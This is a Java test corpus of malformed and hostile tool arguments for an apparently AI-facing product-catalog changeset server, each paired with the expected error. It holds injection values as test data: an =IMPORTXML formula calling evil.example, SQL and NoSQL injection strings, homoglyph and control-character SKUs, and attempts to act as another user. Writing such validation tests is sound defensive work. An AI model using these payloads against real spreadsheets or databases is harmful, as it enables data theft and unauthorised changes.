package dev.changeset.proof;

import static dev.changeset.proof.BadCall.tool;

import java.util.List;

import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;

/**
 * Hostile and malformed tool arguments: wrong types, missing and extra arguments, NaN and huge numbers, 1 MB
 * strings, 10,000 operations, look-alike and invisible characters in SKUs, control characters, formula text. Each
 * is a tool error naming the argument, operation field or problem; none stores a changeset or reaches the sheet.
 */
final class ArgumentCorpus {

    static final String MB = "A".repeat(1_000_000);
    private static final String PREVIEW = "preview_changeset";
    private static final String FORMULA = "=IMPORTXML(\\\"https://evil.example/x\\\",\\\"//a\\\")";

    private ArgumentCorpus() {
    }

    /** preview_changeset: the operations list and its fields. */
    static List<BadCall> operations() {
        return List.of(
                tool("operations missing", PREVIEW, "{}", "Missing required argument: operations"),
                tool("operations as a string", PREVIEW, "{\"operations\":\"all\"}", "operations: must be an array"),
                tool("operations as an object", PREVIEW, "{\"operations\":{\"op\":\"set_price\"}}",
                        "operations: must be an array"),
                tool("no operations", PREVIEW, "{\"operations\":[]}", "give at least one operation"),
                tool("a null operation", PREVIEW, "{\"operations\":[null]}", "operation 1: is empty"),
                tool("a number as operation", PREVIEW, "{\"operations\":[42]}", "operations item 1: must be an object"),
                op("op missing", "{\"sku\":\"APP-1000\",\"price\":68.99}", "operations item 1: field 'op' is missing"),
                op("unknown op", "{\"op\":\"delete_row\",\"sku\":\"APP-1000\"}", "'delete_row' is not an operation"),
                op("sku missing", "{\"op\":\"set_price\",\"price\":68.99}",
                        "operations item 1: field 'sku' is missing"),
                op("price as text", "{\"op\":\"set_price\",\"sku\":\"APP-1000\",\"price\":\"abc\"}",
                        "operations item 1 field price: must be a number, not a string"),
                op("price \"NaN\"", "{\"op\":\"set_price\",\"sku\":\"APP-1000\",\"price\":\"NaN\"}",
                        "field price: must be a number"),
                op("price 1e400", "{\"op\":\"set_price\",\"sku\":\"APP-1000\",\"price\":1e400}",
                        "field price: is out of range"),
                op("price -0", "{\"op\":\"set_price\",\"sku\":\"APP-1000\",\"price\":-0}",
                        "field price: must be above 0"),
                op("price 1e-30", "{\"op\":\"set_price\",\"sku\":\"APP-1000\",\"price\":1e-30}",
                        "field price: at most 2 decimals"),
                op("price true", "{\"op\":\"set_price\",\"sku\":\"APP-1000\",\"price\":true}",
                        "field price: must be a number, not a boolean"),
                op("price 68.999", "{\"op\":\"set_price\",\"sku\":\"APP-1000\",\"price\":68.999}",
                        "field price: at most 2 decimals"),
                op("price 1e20", "{\"op\":\"set_price\",\"sku\":\"APP-1000\",\"price\":1e20}",
                        "field price: must be below 100000"),
                op("price \"68.99\" as a string", "{\"op\":\"set_price\",\"sku\":\"APP-1000\",\"price\":\"68.99\"}",
                        "field price: must be a number, not a string"),
                op("delta 1.5", "{\"op\":\"adjust_inventory\",\"sku\":\"APP-1000\",\"delta\":1.5}",
                        "field delta: must be a whole number"),
                op("delta -1e400", "{\"op\":\"adjust_inventory\",\"sku\":\"APP-1000\",\"delta\":-1e400}",
                        "field delta: is out of range"),
                op("delta of 30 digits", "{\"op\":\"adjust_inventory\",\"sku\":\"APP-1000\",\"delta\":"
                        + "123456789012345678901234567890}", "field delta: must be at most 10000000"),
                op("quantity -1", "{\"op\":\"set_inventory\",\"sku\":\"APP-1000\",\"quantity\":-1}",
                        "field quantity: must be 0 or more"),
                op("percent 91", "{\"op\":\"set_promotion\",\"sku\":\"APP-1000\",\"active\":true,\"percent\":91}",
                        "field percent: must be 0 to 90"),
                op("active \"yes\"", "{\"op\":\"set_promotion\",\"sku\":\"APP-1000\",\"active\":\"yes\",\"percent\":5}",
                        "field active: must be true or false, not a string"),
                op("active 1", "{\"op\":\"set_promotion\",\"sku\":\"APP-1000\",\"active\":1,\"percent\":5}",
                        "field active: must be true or false, not a number"),
                op("an unknown field (range)", "{\"op\":\"set_price\",\"sku\":\"APP-1000\",\"price\":68.99,"
                        + "\"range\":\"Products!A1\"}", "field 'range' is not one of"),
                op("a field of another operation", "{\"op\":\"set_price\",\"sku\":\"APP-1000\",\"price\":68.99,"
                        + "\"delta\":5}", "field delta: does not belong to this operation"),
                tool("an extra argument naming another user", PREVIEW, "{\"operations\":[" + setPrice("APP-1000")
                        + "],\"user\":\"auth0|dave\"}", "argument 'user' is not one this tool takes"),
                tool("the same SKU and field twice", PREVIEW, "{\"operations\":[" + setPrice("APP-1000") + ","
                        + setPrice("APP-1000") + "]}", "one operation per SKU and field"),
                tool("10,000 operations", PREVIEW, many(10_000), "10000 operations is more than the 500"),
                tool("501 operations", PREVIEW, many(501), "501 operations is more than the 500"),
                op("a 1 MB SKU", "{\"op\":\"set_price\",\"sku\":\"" + MB + "\",\"price\":68.99}",
                        "is not a valid SKU"),
                tool("a 1 MB note", PREVIEW, "{\"operations\":[" + setPrice("APP-1000") + "],\"note\":\"" + MB + "\"}",
                        "note: 1000000 characters is more than the 500"),
                tool("control characters in the note", PREVIEW, "{\"operations\":[" + setPrice("APP-1000")
                        + "],\"note\":\"ok\\u0000\\u001b[31m\"}", "note: contains control characters"),
                tool("a number as note", PREVIEW, "{\"operations\":[" + setPrice("APP-1000") + "],\"note\":42}",
                        "note: must be a string"),
                op("Cyrillic A in the SKU", sku("\\u0410PP-1000"), "is not a valid SKU"),
                op("fullwidth digits in the SKU", sku("APP-\\uFF11\\uFF10\\uFF10\\uFF10"), "is not a valid SKU"),
                op("zero-width joiner in the SKU", sku("APP-10\\u200D00"), "is not a valid SKU"),
                op("right-to-left override in the SKU", sku("\\u202EAPP-1000"), "is not a valid SKU"),
                op("newline in the SKU", sku("APP-1000\\n"), "is not a valid SKU"),
                op("formula as SKU", sku(FORMULA), "is not a valid SKU"),
                op("SQL in the SKU", sku("APP-1000' OR '1'='1"), "is not a valid SKU"),
                op("an unknown SKU", sku("NOPE-0000"), "no product with SKU NOPE-0000"),
                op("quantity over the ceiling", "{\"op\":\"set_inventory\",\"sku\":\"APP-1000\",\"quantity\":"
                        + "10000001}", "field quantity: must be at most 10000000"));
    }

    /** The other changeset tools, the one-operation tools and the read tools. */
    static List<BadCall> others() {
        return List.of(
                tool("apply without id", "apply_changeset", "{}", "Missing required argument: changesetId"),
                tool("apply with a number id", "apply_changeset", "{\"changesetId\":12}",
                        "changesetId: must be a string, not a number"),
                tool("apply with an object id", "apply_changeset", "{\"changesetId\":{\"$ne\":null}}",
                        "changesetId: must be a string, not an object"),
                tool("apply with a 1 MB id", "apply_changeset", "{\"changesetId\":\"" + MB + "\"}", "no changeset '"),
                tool("apply with SQL as id", "apply_changeset", "{\"changesetId\":\"' OR 1=1 --\"}", "no changeset '"),
                tool("waitSeconds -1", "apply_changeset", "{\"changesetId\":\"CS-AAAA\",\"waitSeconds\":-1}",
                        "waitSeconds must be 0 to 230"),
                tool("waitSeconds 231", "apply_changeset", "{\"changesetId\":\"CS-AAAA\",\"waitSeconds\":231}",
                        "waitSeconds must be 0 to 230"),
                tool("waitSeconds 2.5", "apply_changeset", "{\"changesetId\":\"CS-AAAA\",\"waitSeconds\":2.5}",
                        "waitSeconds: must be a whole number, not 2.5"),
                tool("waitSeconds \"ten\"", "apply_changeset", "{\"changesetId\":\"CS-AAAA\",\"waitSeconds\":\"ten\"}",
                        "waitSeconds: must be a whole number, not a string"),
                tool("waitSeconds 1e400", "apply_changeset", "{\"changesetId\":\"CS-AAAA\",\"waitSeconds\":1e400}",
                        "waitSeconds: is out of range"),
                tool("waitSeconds 2^40", "apply_changeset", "{\"changesetId\":\"CS-AAAA\",\"waitSeconds\":"
                        + "1099511627776}", "waitSeconds: must be a whole number up to 2147483647"),
                tool("get with control characters", "get_changeset", "{\"changesetId\":\"CS-\\u0000\\u001b\"}",
                        "no changeset 'CS-??'"),
                tool("cancel an unknown changeset", "cancel_changeset", "{\"changesetId\":\"CS-ZZZZ\"}",
                        "no changeset 'CS-ZZZZ'"),
                tool("update_price \"NaN\"", "update_price", "{\"sku\":\"APP-1000\",\"price\":\"NaN\"}",
                        "price: must be a number"),
                tool("update_price 1e400", "update_price", "{\"sku\":\"APP-1000\",\"price\":1e400}",
                        "price: is out of range"),
                tool("update_price without sku", "update_price", "{\"price\":5}", "Missing required argument: sku"),
                tool("update_price -5", "update_price", "{\"sku\":\"APP-1000\",\"price\":-5}", "must be above 0"),
                tool("update_price with an extra range", "update_price", "{\"sku\":\"APP-1000\",\"price\":68.99,"
                        + "\"range\":\"Products!C2\"}", "argument 'range' is not one this tool takes"),
                tool("set_promotion without active", "set_promotion", "{\"sku\":\"APP-1000\",\"percent\":10}",
                        "Missing required argument: active"),
                tool("set_promotion percent -1", "set_promotion", "{\"sku\":\"APP-1000\",\"active\":true,"
                        + "\"percent\":-1}", "field percent: must be 0 to 90"),
                tool("adjust_inventory 0.5", "adjust_inventory", "{\"sku\":\"APP-1000\",\"delta\":0.5}",
                        "field delta: must be a whole number"),
                tool("adjust_inventory 0", "adjust_inventory", "{\"sku\":\"APP-1000\",\"delta\":0}",
                        "0 changes nothing"),
                tool("read_catalog limit 0", "read_catalog", "{\"limit\":0}", "limit must be between 1 and 200"),
                tool("read_catalog limit \"many\"", "read_catalog", "{\"limit\":\"many\"}",
                        "limit: must be a whole number, not a string"),
                tool("read_catalog offset -1", "read_catalog", "{\"offset\":-1}", "offset must be 0 or more"),
                tool("read_catalog skus as a string", "read_catalog", "{\"skus\":\"APP-1000\"}",
                        "skus: must be an array"),
                tool("read_catalog 1 MB query", "read_catalog", "{\"query\":\"" + MB + "\"}", "query is too long"),
                tool("read_catalog 201 SKUs", "read_catalog", new JsonObject().put("skus", skus(201)).encode(),
                        "at most 200 SKUs"),
                tool("launch schedule month 13", "read_launch_schedule", "{\"from\":\"2026-13-45\"}",
                        "from must be a date as YYYY-MM-DD"),
                tool("get_receipt of no receipt", "get_receipt", "{\"receiptId\":\"not-a-uuid\"}",
                        "No receipt 'not-a-uuid'"),
                tool("list_receipts unknown state", "list_receipts", "{\"state\":\"BOGUS\"}", "state must be one of"),
                tool("list_receipts from yesterday", "list_receipts", "{\"from\":\"yesterday\"}",
                        "'from' must be an ISO-8601"),
                tool("list_receipts of another user", "list_receipts", "{\"user\":\"auth0|dave\"}",
                        "you can list only your own receipts"),
                tool("verify_audit_log bad head", "verify_audit_log", "{\"earlierHead\":\"zz\"}",
                        "earlierHead must be a receipt hash"),
                tool("get_session with a user argument", "get_session", "{\"user\":\"auth0|dave\"}",
                        "argument 'user' is not one this tool takes (it takes none)"),
                tool("describe_policy with an extra argument", "describe_policy", "{\"tier\":\"T0\"}",
                        "argument 'tier' is not one this tool takes"),
                tool("email_receipt of no receipt", "email_receipt", "{\"receiptId\":\"" + MB.substring(0, 100)
                        + "\",\"waitSeconds\":0}", "no receipt"));
    }

    static String setPrice(String sku) {
        return "{\"op\":\"set_price\",\"sku\":\"" + sku + "\",\"price\":68.99}";
    }

    private static BadCall op(String name, String operation, String fragment) {
        return tool(name, PREVIEW, "{\"operations\":[" + operation + "]}", fragment);
    }

    private static String sku(String sku) {
        return "{\"op\":\"set_price\",\"sku\":\"" + sku + "\",\"price\":68.99}";
    }

    private static String many(int count) {
        JsonArray operations = new JsonArray();
        for (int i = 0; i < count; i++) {
            operations.add(new JsonObject().put("op", "set_price").put("sku", "APP-" + (1000 + i)).put("price", 10));
        }
        return new JsonObject().put("operations", operations).encode();
    }

    private static JsonArray skus(int count) {
        JsonArray skus = new JsonArray();
        for (int i = 0; i < count; i++) {
            skus.add("APP-" + (1000 + i));
        }
        return skus;
    }
}
